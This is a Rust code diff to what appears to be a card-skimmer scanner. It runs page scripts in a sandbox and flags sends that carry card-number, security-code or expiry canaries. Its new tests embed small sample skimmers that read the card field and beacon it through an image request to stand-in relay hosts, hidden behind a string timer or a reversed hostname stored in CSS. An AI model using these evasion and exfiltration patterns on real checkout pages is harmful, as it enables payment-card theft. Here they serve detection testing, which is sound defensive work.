@@ -99,7 +99,11 @@ pub fn observe(
 ) -> Result<Observed, SandboxError> {
     let mut sandbox = Sandbox::new(limits)?;
     let own = serde_json::to_string(src).unwrap_or_else(|_| "\"\"".into());
-    sandbox.run(&format!("{}({own});", include_str!("self_document.js")))?;
+    sandbox.run_own(
+        "__skimscan_self_document",
+        include_str!("self_document.js"),
+        &own,
+    )?;
     let page = page_url
         .filter(|u| u.starts_with("https://") || u.starts_with("http://"))
         .map(str::to_string)
@@ -109,29 +113,48 @@ pub fn observe(
     sandbox.install_media()?;
     // The page, then what it gets natively (crypto, then the codecs, which reuse crypto's
     // byte helpers), then script elements that run the code put into them.
-    for (what, code) in [
-        ("", format!("{}({page});", include_str!("emulate.js"))),
+    for (what, name, source, args, then) in [
+        (
+            "",
+            "__skimscan_emulate",
+            include_str!("emulate.js"),
+            page.as_str(),
+            "",
+        ),
         (
             "'s crypto",
-            format!(
-                "{}(__skimscan_crypto, __skimscan_page); delete globalThis.__skimscan_crypto;",
-                include_str!("web_crypto.js")
-            ),
+            "__skimscan_web_crypto",
+            include_str!("web_crypto.js"),
+            "__skimscan_crypto, __skimscan_page",
+            "delete globalThis.__skimscan_crypto",
         ),
         (
             "'s media",
-            format!(
-                "{}(__skimscan_media, __skimscan_page.codec); delete globalThis.__skimscan_media;",
-                include_str!("media.js")
-            ),
+            "__skimscan_media_setup",
+            include_str!("media.js"),
+            "__skimscan_media, __skimscan_page.codec",
+            "delete globalThis.__skimscan_media",
         ),
         (
             "'s scripts",
-            format!("{}();", include_str!("script_elements.js")),
+            "__skimscan_script_elements",
+            include_str!("script_elements.js"),
+            "",
+            "",
+        ),
+        (
+            "'s styles",
+            "__skimscan_computed_style",
+            include_str!("computed_style.js"),
+            "__skimscan_page.css",
+            "",
         ),
     ] {
-        if let Outcome::Threw = sandbox.run(&code)? {
+        if let Outcome::Threw = sandbox.run_own(name, source, args)? {
             return Err(SandboxError::Start(format!("the stub page{what} failed")));
+        }
+        if !then.is_empty() {
+            sandbox.run(then)?;
         }
     }
     // The script's own exceptions end its top level, as in a browser; what it set up before
@@ -255,6 +278,49 @@ fn own_relative(url: &str, origin: &str) -> String {
     url.to_string()
 }
 
+/// The hosts a run sent to with no field's data, when it read fields and no send at all
+/// carried a card's canary (nor a security code's, an expiry's or a field's marker): an
+/// error reporter or a form tool that reads every field and scrubs what it sends. Empty
+/// when any send carried one (that flow is a layer, see [`layer`]) or nothing was read.
+pub fn clean_send_hosts(observed: &Observed) -> Vec<String> {
+    if observed.reads.is_empty() {
+        return Vec::new();
+    }
+    let mut hosts = Vec::new();
+    for (_, url, data) in &observed.sends {
+        if carries_any(&format!("{url}\n{data}"), &observed.reads) {
+            return Vec::new();
+        }
+        if let Some(h) = url::Url::parse(url)
+            .ok()
+            .and_then(|u| u.host_str().map(str::to_ascii_lowercase))
+            && !hosts.contains(&h)
+        {
+            hosts.push(h);
+        }
+    }
+    hosts
+}
+
+/// Whether `sent` carries any canary with digits in it (the card number, the security code,
+/// the expiry) or a field's marker, in any encoding [`fields_in`] looks through. Names and
+/// e-mail addresses are no card data.
+fn carries_any(sent: &str, reads: &[(String, String)]) -> bool {
+    let views = views(sent);
+    if folded_base64_pan(sent) || views.iter().any(|v| v.contains(PAN)) {
+        return true;
+    }
+    reads.iter().any(|(_, value)| {
+        if value.starts_with("canary-") {
+            views.iter().any(|v| v.contains(value.as_str()))
+        } else {
+            value.len() >= 3
+                && value.bytes().any(|b| b.is_ascii_digit())
+                && views.iter().any(|v| has_token(v, value))
+        }
+    })
+}
+
 /// The fields read whose canary `sent` carries, in any of the encodings a skimmer uses.
 fn fields_in(sent: &str, reads: &[(String, String)]) -> Vec<String> {
     let views = views(sent);
@@ -274,8 +340,10 @@ fn fields_in(sent: &str, reads: &[(String, String)]) -> Vec<String> {
             card && has(value)
         } else {
             // Short canaries (a security code, a month) only beside the card number, and as
-            // a token of their own.
-            card && views.iter().any(|v| has_token(v, value))
+            // a token of their own; or sent as a value of their own (`"cvc":"737"`,
+            // `cvv=737`), as a scrubber that masks only long digit runs sends them.
+            (card && views.iter().any(|v| has_token(v, value)))
+                || (value.len() >= 3 && views.iter().any(|v| sent_as_value(v, value)))
         };
         if found && !out.contains(key) {
             out.push(key.clone());
@@ -302,6 +370,43 @@ fn folded_base64_pan(sent: &str) -> bool {
             .encode(&pan[skip..skip + whole])
             .to_ascii_lowercase();
         sent.contains(&run)
+    })
+}
+
+/// Words in the name a card's security code or expiry is sent under.
+const CARD_VALUE_NAMES: &[&str] = &[
+    "cvv", "cvc", "csc", "cid", "cvn", "security", "verif", "exp", "year", "card", "cc",
+];
+
+/// `value` as a JSON string value or form value named like a card field: `"cc_cid":"737"`,
+/// `cvv=737` (then `&`, a quote or the end). A DOM snapshot's `"value":"737"` is not one (a
+/// mirror that kept a field's value would say nothing of which field); decodings by a
+/// guessed XOR key are noise that a random `:"737"` may appear in; a name before it is not.
+fn sent_as_value(hay: &str, value: &str) -> bool {
+    let named = |before: &str, stop: &[char]| {
+        let start = before.rfind(stop).map_or(0, |i| i + 1);
+        let name = &before[start..];
+        let lower = name.to_ascii_lowercase();
+        (2..=64).contains(&name.len())
+            && name
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || "_-[]. ".contains(c))
+            && CARD_VALUE_NAMES.iter().any(|w| lower.contains(w))
+    };
+    let json = format!(":\"{value}\"");
+    if hay
+        .match_indices(&json)
+        .any(|(i, _)| hay[..i].strip_suffix('"').is_some_and(|b| named(b, &['"'])))
+    {
+        return true;
+    }
+    let form = format!("={value}");
+    hay.match_indices(&form).any(|(i, m)| {
+        hay[i + m.len()..]
+            .chars()
+            .next()
+            .is_none_or(|c| matches!(c, '&' | '"' | '\'' | ';' | '\n'))
+            && named(&hay[..i], &['&', '?', '\n', ';', ' ', '"', '\''])
     })
 }
 
@@ -749,6 +854,88 @@ mod tests {
         assert!(
             !obs.sends[0].1.contains(PAN),
             "the URL itself is sealed: {:?}",
+            obs.sends
+        );
+    }
+
+    #[test]
+    fn a_short_canary_counts_as_a_named_value_only() {
+        assert!(sent_as_value(r#"{"payment[cc_cid]":"737","x":1}"#, "737"));
+        assert!(sent_as_value("a=1&cvv=737&b=2", "737"));
+        assert!(sent_as_value("exp_year=2029", "2029"));
+        // Noise: a value without a field's name before it, or part of a longer number.
+        assert!(!sent_as_value(r#"x!#:"737""#, "737"));
+        assert!(!sent_as_value("n=73712", "737"));
+        assert!(!sent_as_value(r#"{"ms":737}"#, "737"));
+        // A DOM mirror's value says nothing of which field it was.
+        assert!(!sent_as_value(r#"{"tag":"input","value":"737"}"#, "737"));
+    }
+
+    #[test]
+    fn scrubbed_sends_name_their_hosts_and_a_carried_code_spoils_them() {
+        let reads = vec![("#cc_cid".to_string(), "737".to_string())];
+        let clean = Observed {
+            origin: "https://www.shop.example".into(),
+            reads: reads.clone(),
+            sends: vec![(
+                "fetch".into(),
+                "https://o1.ingest.errors.example/e".into(),
+                r#"{"cc_cid":"[Filtered]"}"#.into(),
+            )],
+            pipes: Vec::new(),
+        };
+        assert_eq!(
+            clean_send_hosts(&clean),
+            vec!["o1.ingest.errors.example".to_string()]
+        );
+        let leaky = Observed {
+            sends: vec![(
+                "fetch".into(),
+                "https://o1.ingest.errors.example/e".into(),
+                r#"{"cc_cid":"737"}"#.into(),
+            )],
+            ..clean
+        };
+        assert!(clean_send_hosts(&leaky).is_empty());
+    }
+
+    #[test]
+    fn a_string_timer_runs_its_code_when_it_fires() {
+        // The code only listens for the order button once the timer ran it.
+        let src = r#"
+            window['setTime' + 'out']("document.addEventListener('mousedown', function () {" +
+              " new Image().src = 'https://t-relay.example/i?c=' + document.querySelector('#cc_number').value; })", 0);
+        "#;
+        let obs = observe(src, limits(false), None).unwrap();
+        assert!(
+            obs.sends
+                .iter()
+                .any(|s| s.1.starts_with("https://t-relay.example/") && s.1.ends_with(PAN)),
+            "{:?}",
+            obs.sends
+        );
+    }
+
+    #[test]
+    fn computed_style_answers_what_the_script_wrote() {
+        // A pseudo-element's `content` and a custom property of `:root`, both from a style
+        // sheet the script wrote; nothing else is declared.
+        let src = r#"
+            var s = document.createElement('style');
+            s.textContent = '#probe::after{content:"moc.elpmaxe-yaler-c"} :root{--tail:"/x"}';
+            document.head.appendChild(s);
+            var p = document.createElement('i'); p.id = 'probe'; document.body.appendChild(p);
+            var host = getComputedStyle(p, '::after').getPropertyValue('content').replace(/"/g, '').split('').reverse().join('');
+            var tail = getComputedStyle(document.body).getPropertyValue('--tail').replace(/"/g, '');
+            var none = getComputedStyle(p).getPropertyValue('content');
+            new Image().src = 'https://' + host + tail + '?n=' + none.length + '&c=' + document.querySelector('#cc_number').value;
+        "#;
+        let obs = observe(src, limits(false), None).unwrap();
+        assert!(
+            obs.sends
+                .iter()
+                .any(|s| s.1.starts_with("https://c-relay-example.com/x?n=0&c=")),
+            "{:?}",
             obs.sends
         );
     }
